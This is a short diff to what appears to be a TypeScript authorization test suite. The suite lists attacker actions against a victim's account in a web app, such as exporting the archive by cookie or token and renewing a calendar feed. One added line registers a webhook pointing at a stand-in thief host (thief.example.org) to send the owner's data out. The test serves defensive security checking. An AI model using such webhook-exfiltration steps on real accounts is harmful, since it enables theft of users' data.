@@ -108,6 +108,8 @@ const attacks: Record<string, (target: Victim) => Promise<unknown>> = {
       { input },
     );
   },
+  createWebhook: ({ owner }) => owner.rest('POST', '/api/webhooks', { url: 'https://thief.example.org/' }),
+  renewCalendarFeed: ({ owner }) => owner.rest('POST', '/api/calendar-feed'),
   'the archive': ({ owner }) => load('/api/export', { as: owner }),
   'the archive by cookie and by token in the address': async ({ owner }) => {
     const byCookie = await load('/api/export', { headers: { cookie: `everystep_session=${owner.token}` } });
@@ -151,6 +153,11 @@ const ofNoUse = new Set([
   'copyMacros',
   'saveMacroTargets',
   'saveMetrics',
+  'pushHealth',
+  'deleteWebhook',
+  'enableWebhook',
+  'testWebhook',
+  'removeCalendarFeed',
   'addCustomMetricField',
   'deleteCustomMetricField',
   'createGoal',
